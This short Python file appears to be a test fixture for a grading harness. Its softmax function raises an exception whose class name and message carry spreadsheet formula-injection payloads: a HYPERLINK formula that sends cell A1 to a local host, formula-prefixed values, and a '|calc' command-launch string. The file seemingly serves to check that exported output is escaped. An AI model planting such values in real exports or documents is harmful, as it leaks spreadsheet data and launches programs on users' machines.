"""An exception that a spreadsheet would compute, and a name that one would call."""

# /// attack
# exercise = "softmax"
# verdicts = ["error"]
# says = "HYPERLINK"
# ///

# %% softmax
def softmax(x, dim=-1):
    raise type("=cmd", (Exception,), {})('=HYPERLINK("http://127.0.0.1/?"&A1,"hostile")\t@SUM(1)\n+1\r-1|calc')
